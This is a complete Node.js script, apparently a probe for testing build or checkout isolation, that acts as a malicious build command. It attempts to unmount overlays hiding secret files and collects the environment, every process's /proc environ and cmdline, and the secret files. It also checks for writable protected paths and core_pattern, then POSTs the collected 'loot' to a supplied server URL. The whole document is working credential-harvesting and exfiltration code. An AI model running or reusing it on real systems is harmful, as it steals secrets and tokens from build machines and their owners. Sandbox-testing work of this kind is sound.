// The attack of a build command, or of a program that git runs in the checkout: reads everything that it can, and sends
// it to a server. Arguments: a name, the server's URL, files with secrets, and (after --) files that a build may not write.
const { spawnSync } = require("node:child_process");
const { accessSync, constants, readdirSync, readFileSync } = require("node:fs");
const { request } = require("node:http");

const [name, url, ...rest] = process.argv.slice(2);
const secrets = rest.slice(0, rest.indexOf("--"));
const targets = rest.slice(rest.indexOf("--") + 1);

function read(path) {
  try {
    return readFileSync(path, "latin1");
  } catch (error) {
    return error.code;
  }
}

// Uncovers what is mounted over.
for (const file of secrets) {
  for (const command of [
    ["umount", "-l"],
    ["unshare", "--user", "--map-root-user", "--mount", "umount", "-l"],
  ]) {
    spawnSync(command[0], [...command.slice(1), file.split("/").slice(0, -1).join("/")]);
  }
}
const processes = readdirSync("/proc").filter((entry) => /^\d+$/.test(entry));
const canWrite = targets.filter((path) => {
  try {
    accessSync(path, constants.W_OK);
    return true;
  } catch {
    return false;
  }
});
const { status } = spawnSync(
  "unshare",
  ["--user", "--map-root-user", "--pid", "--fork", "--mount", "sh", "-c"].concat(
    "mount -t proc proc /proc && test -w /proc/sys/kernel/core_pattern",
  ),
);
if (status === 0) canWrite.push("core_pattern of another /proc");
const loot = JSON.stringify({
  name,
  environment: process.env,
  processes: processes.map((id) => read(`/proc/${id}/environ`) + read(`/proc/${id}/cmdline`)),
  files: secrets.map(read),
  canWrite,
});
request(url, { method: "POST" }, (response) => response.resume()).end(loot);
